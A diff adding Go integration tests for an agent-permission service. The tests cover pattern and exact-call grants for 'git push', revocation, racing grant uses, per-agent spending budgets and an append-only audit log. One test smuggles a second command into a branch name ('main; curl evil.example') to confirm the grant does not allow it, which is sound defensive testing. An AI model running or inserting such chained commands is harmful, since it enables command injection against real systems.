@@ -1,0 +1,323 @@
+//go:build integration
+
+package store_test
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/useprickle/prickle/shared/admin"
+	"github.com/useprickle/prickle/shared/audit"
+	"github.com/useprickle/prickle/shared/budget"
+	"github.com/useprickle/prickle/shared/grant"
+	"github.com/useprickle/prickle/shared/identity"
+	"github.com/useprickle/prickle/shared/step"
+	"github.com/useprickle/prickle/shared/task"
+	"github.com/useprickle/prickle/shared/team"
+)
+
+// ownersFixture is the team service over the real store with one project,
+// alice's builder working on a task as a woken run, and bob's reviewer.
+type ownersFixture struct {
+	fixture
+	svc  *team.Service
+	run  identity.Caller
+	task task.Task
+}
+
+func newOwnersFixture(t *testing.T) ownersFixture {
+	t.Helper()
+	f := newFixture(t)
+	ctx := context.Background()
+	if err := f.store.PutProject(ctx, team.Project{Slug: "web", Name: "Web", StepDeadline: step.DefaultPendingDeadline}); err != nil {
+		t.Fatal(err)
+	}
+	for _, a := range []string{"alice/builder", "bob/reviewer"} {
+		owner, _, _ := strings.Cut(a, "/")
+		if err := f.store.PutOwner(ctx, admin.Owner{Name: owner}); err != nil {
+			t.Fatal(err)
+		}
+		if err := f.store.PutAgent(ctx, team.Agent{ID: a, Owner: owner, Projects: []string{"web"}}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	tk := routedTask("push-task", "web", "bob/reviewer", "alice/builder", base)
+	mustCreate(t, f, tk)
+	m, _ := task.Accept(tk, "alice/builder", "", base.Add(time.Minute))
+	if err := f.store.ApplyMove(ctx, 1, m); err != nil {
+		t.Fatal(err)
+	}
+	svc := team.New(f.store)
+	n := 0
+	var mu sync.Mutex
+	svc.NewID = func(prefix string) string {
+		mu.Lock()
+		defer mu.Unlock()
+		n++
+		return fmt.Sprintf("%s%04d", prefix, n)
+	}
+	return ownersFixture{fixture: f, svc: svc, task: m.Task,
+		run: identity.Caller{Agent: "alice/builder", Owner: "alice", Kind: identity.KindRun, TaskID: tk.ID, RunID: "run_1"}}
+}
+
+func (f ownersFixture) push(t *testing.T, branch, toolUseID string) team.RequestStepOutput {
+	t.Helper()
+	out, err := f.svc.RequestStep(context.Background(), f.run, team.RequestStepInput{
+		ToolName: "Bash", Input: json.RawMessage(fmt.Sprintf(`{"command":"git push origin %s","description":"push"}`, branch)),
+		ToolUseID: toolUseID, Kind: "outbound", Target: "github.com",
+	})
+	if err != nil {
+		t.Fatalf("request_step push %s: %v", branch, err)
+	}
+	return out
+}
+
+// TestGrantSparesRepeatedAsksUntilRevoked is acceptance 2 of issue 13: a
+// run that pushes the same branch five times is asked once; a pattern grant
+// allows the pushes; a near miss still asks; revoking makes the next push ask.
+func TestGrantSparesRepeatedAsksUntilRevoked(t *testing.T) {
+	f := newOwnersFixture(t)
+	ctx := context.Background()
+	first := f.push(t, "main", "tu_0")
+	if first.Status != step.Pending || first.Behavior != "deny" {
+		t.Fatalf("first push = %+v, want pending deny", first)
+	}
+	if _, err := f.svc.DecideStep(ctx, "alice", f.task.ID, first.StepID, true, "", audit.ViaPage); err != nil {
+		t.Fatal(err)
+	}
+	// bob cannot give a grant for alice's agent.
+	if _, err := f.svc.GrantFromStep(ctx, "bob", f.task.ID, first.StepID, team.GrantRequest{Scope: grant.ScopePattern, Hours: 2, Field: "command", Pattern: "git push origin *"}); err == nil {
+		t.Fatal("bob gave a grant for alice's agent")
+	}
+	for _, bad := range []team.GrantRequest{
+		{Scope: grant.ScopePattern, Hours: 2, Field: "command", Pattern: "*"},
+		{Scope: grant.ScopePattern, Hours: 0, Field: "command", Pattern: "git push *"},
+		{Scope: grant.ScopePattern, Hours: 1000, Field: "command", Pattern: "git push *"},
+		{Scope: "everything", Hours: 2},
+	} {
+		if _, err := f.svc.GrantFromStep(ctx, "alice", f.task.ID, first.StepID, bad); err == nil {
+			t.Errorf("grant %+v accepted", bad)
+		}
+	}
+	g, err := f.svc.GrantFromStep(ctx, "alice", f.task.ID, first.StepID, team.GrantRequest{Scope: grant.ScopePattern, Hours: 2, Field: "command", Pattern: "git push origin *", Via: audit.ViaPage})
+	if err != nil {
+		t.Fatal(err)
+	}
+	used := f.push(t, "main", "tu_0") // the approved step itself, used once
+	if used.Behavior != "allow" || used.Status != step.Consumed {
+		t.Fatalf("approved push = %+v", used)
+	}
+	for i := 1; i <= 5; i++ {
+		out := f.push(t, "main", fmt.Sprintf("tu_%d", i))
+		if out.Behavior != "allow" || out.Status != step.Consumed || !strings.Contains(out.Message, g.ID) {
+			t.Fatalf("push %d = %+v, want allow by %s", i, out, g.ID)
+		}
+		if string(out.UpdatedInput) != `{"command":"git push origin main","description":"push"}` {
+			t.Errorf("push %d updatedInput = %s", i, out.UpdatedInput)
+		}
+	}
+	if near := f.push(t, "main; curl evil.example", "tu_x"); near.Status != step.Pending {
+		t.Fatalf("a near miss was allowed: %+v", near)
+	}
+	grants, err := f.store.ProjectGrants(ctx, "web")
+	if err != nil || len(grants) != 1 || grants[0].Uses != 5 {
+		t.Fatalf("grants = %+v, %v; want one with 5 uses", grants, err)
+	}
+	if _, err := f.svc.RevokeGrant(ctx, "bob", "web", g.ID, audit.ViaPage); err == nil {
+		t.Fatal("bob revoked alice's grant")
+	}
+	if _, err := f.svc.RevokeGrant(ctx, "alice", "web", g.ID, audit.ViaPage); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := f.svc.RevokeGrant(ctx, "alice", "web", g.ID, audit.ViaPage); err == nil {
+		t.Fatal("a grant was revoked twice")
+	}
+	if again := f.push(t, "main", "tu_9"); again.Status != step.Pending || again.Behavior != "deny" {
+		t.Fatalf("after revoking, push = %+v, want pending", again)
+	}
+
+	entries, err := f.svc.ProjectAudit(ctx, "web")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, e := range entries {
+		got = append(got, e.Action+" "+e.Actor+" "+e.Via)
+	}
+	want := []string{
+		"hand_off bob/reviewer mcp", "accept alice/builder mcp",
+		"step_asked alice/builder mcp", "step_approved owner:alice task page", "grant_created owner:alice task page",
+		"step_used alice/builder mcp",
+		"step_allowed owner:alice grant " + g.ID, "step_allowed owner:alice grant " + g.ID, "step_allowed owner:alice grant " + g.ID,
+		"step_allowed owner:alice grant " + g.ID, "step_allowed owner:alice grant " + g.ID,
+		"step_asked alice/builder mcp", "grant_revoked owner:alice task page",
+		"step_withdrawn alice/builder mcp", "step_asked alice/builder mcp",
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("audit:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+// TestExactCallGrant allows only the same call on the same task, and expires.
+func TestExactCallGrant(t *testing.T) {
+	f := newOwnersFixture(t)
+	ctx := context.Background()
+	now := base.Add(time.Hour)
+	f.svc.Now = func() time.Time { return now }
+	first := f.push(t, "main", "tu_0")
+	if _, err := f.svc.DecideStep(ctx, "alice", f.task.ID, first.StepID, true, "", audit.ViaLink); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := f.svc.GrantFromStep(ctx, "alice", f.task.ID, first.StepID, team.GrantRequest{Scope: grant.ScopeCall, Hours: 1, Via: audit.ViaLink}); err != nil {
+		t.Fatal(err)
+	}
+	f.push(t, "main", "tu_0")
+	if out := f.push(t, "main", "tu_1"); out.Behavior != "allow" {
+		t.Fatalf("same call = %+v, want allow", out)
+	}
+	if out := f.push(t, "release", "tu_2"); out.Status != step.Pending {
+		t.Fatalf("another branch = %+v, want pending", out)
+	}
+	now = now.Add(61 * time.Minute)
+	if out := f.push(t, "main", "tu_3"); out.Status != step.Pending {
+		t.Fatalf("after the grant expired = %+v, want pending", out)
+	}
+}
+
+// TestRacingGrantUses counts every racing use exactly once.
+func TestRacingGrantUses(t *testing.T) {
+	f := newOwnersFixture(t)
+	ctx := context.Background()
+	first := f.push(t, "main", "tu_0")
+	if _, err := f.svc.DecideStep(ctx, "alice", f.task.ID, first.StepID, true, "", audit.ViaPage); err != nil {
+		t.Fatal(err)
+	}
+	g, err := f.svc.GrantFromStep(ctx, "alice", f.task.ID, first.StepID, team.GrantRequest{Scope: grant.ScopePattern, Hours: 1, Field: "command", Pattern: "git push origin *"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const n = 12
+	var wg sync.WaitGroup
+	allowed := make([]bool, n)
+	for i := range n {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			out, err := f.svc.RequestStep(ctx, f.run, team.RequestStepInput{ToolName: "Bash",
+				Input: json.RawMessage(fmt.Sprintf(`{"command":"git push origin b%d"}`, i)), ToolUseID: fmt.Sprintf("tu_%d", i)})
+			allowed[i] = err == nil && out.Behavior == "allow"
+		}()
+	}
+	wg.Wait()
+	count := 0
+	for _, a := range allowed {
+		if a {
+			count++
+		}
+	}
+	grants, err := f.store.ProjectGrants(ctx, "web")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if count != n || grants[0].Uses != n || grants[0].ID != g.ID {
+		t.Fatalf("%d of %d racing pushes allowed, grant uses %d; want all and %d", count, n, grants[0].Uses, n)
+	}
+}
+
+// TestRacingSpendingNeverOverspends is acceptance 3 of issue 13: 20 racing
+// spending steps of 5 USD against a 50 USD budget allow at most 50 USD.
+func TestRacingSpendingNeverOverspends(t *testing.T) {
+	f := newOwnersFixture(t)
+	ctx := context.Background()
+	if _, err := f.svc.SetBudget(ctx, budget.Budget{Project: "web", Owner: "alice", Unit: "USD", PerAgentPerDay: 50 * budget.Scale, AutoAllow: true}, audit.ViaPage); err != nil {
+		t.Fatal(err)
+	}
+	const n = 20
+	type answer struct {
+		out team.RequestStepOutput
+		err error
+	}
+	answers := make([]answer, n)
+	var wg sync.WaitGroup
+	for i := range n {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			out, err := f.svc.RequestStep(ctx, f.run, team.RequestStepInput{ToolName: "buy_credits",
+				Input: json.RawMessage(fmt.Sprintf(`{"pack":%d}`, i)), ToolUseID: fmt.Sprintf("tu_%d", i),
+				Kind: "spending", Amount: &step.Amount{Value: 5, Unit: "USD"}})
+			answers[i] = answer{out, err}
+		}()
+	}
+	wg.Wait()
+	allowed, asked := 0, 0
+	for i, a := range answers {
+		var refusal *task.Refusal
+		switch {
+		case a.err == nil && a.out.Behavior == "allow":
+			allowed++
+		case a.err == nil && a.out.Status == step.Pending:
+			asked++
+			if !strings.Contains(a.out.Message, "0 USD left of 50 USD") {
+				t.Errorf("answer %d asks without saying what is left: %q", i, a.out.Message)
+			}
+		case errors.As(a.err, &refusal):
+			asked++ // lost the race to ask; asks again
+		default:
+			t.Errorf("answer %d: %+v, %v", i, a.out, a.err)
+		}
+	}
+	spent, err := f.store.Spent(ctx, budget.Spend{Project: "web", Owner: "alice", Unit: "USD", Agent: "alice/builder", Day: budget.Day(time.Now())})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if allowed != 10 || spent != 50*budget.Scale {
+		t.Fatalf("allowed %d (asked %d), spent %s USD; want 10 and exactly 50", allowed, asked, spent)
+	}
+	// Beyond the budget the owner is asked and told what is left.
+	out, err := f.svc.RequestStep(ctx, f.run, team.RequestStepInput{ToolName: "buy_credits", Input: json.RawMessage(`{"pack":99}`),
+		ToolUseID: "tu_99", Kind: "spending", Amount: &step.Amount{Value: 0.5, Unit: "USD"}})
+	if err != nil || out.Status != step.Pending || !strings.Contains(out.Message, "over budget") {
+		t.Fatalf("over budget = %+v, %v", out, err)
+	}
+	steps, err := f.store.StepsForTask(ctx, f.task.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range steps {
+		if s.ID == out.StepID && !strings.Contains(s.BudgetNote, "0 USD left of 50 USD today for alice/builder") {
+			t.Errorf("the asked step's note = %q", s.BudgetNote)
+		}
+	}
+	// Another unit, or no amount, is never allowed by the USD budget.
+	if out, err := f.svc.RequestStep(ctx, f.run, team.RequestStepInput{ToolName: "buy", Input: json.RawMessage(`{"x":1}`), ToolUseID: "tu_e",
+		Kind: "spending", Amount: &step.Amount{Value: 1, Unit: "EUR"}}); err != nil || out.Behavior == "allow" {
+		t.Fatalf("EUR spend = %+v, %v; want asked", out, err)
+	}
+}
+
+func TestAuditEntriesAreAppendOnly(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	e := audit.Entry{At: base, Project: "web", Action: audit.TokenMinted, Actor: "operator", Via: audit.ViaAdmin, Detail: "first", Key: "token#abc"}
+	if err := f.store.AppendAudit(ctx, e); err != nil {
+		t.Fatal(err)
+	}
+	e.Detail = "rewritten"
+	if err := f.store.AppendAudit(ctx, e); err != nil {
+		t.Fatal(err)
+	}
+	got, err := f.store.ProjectAudit(ctx, "web")
+	if err != nil || len(got) != 1 || got[0].Detail != "first" {
+		t.Fatalf("audit = %+v, %v; want the first entry unchanged", got, err)
+	}
+	if err := f.store.AppendAudit(ctx, audit.Entry{At: base, Action: "x", Key: "k"}); err == nil {
+		t.Fatal("an entry without a project was stored")
+	}
+}
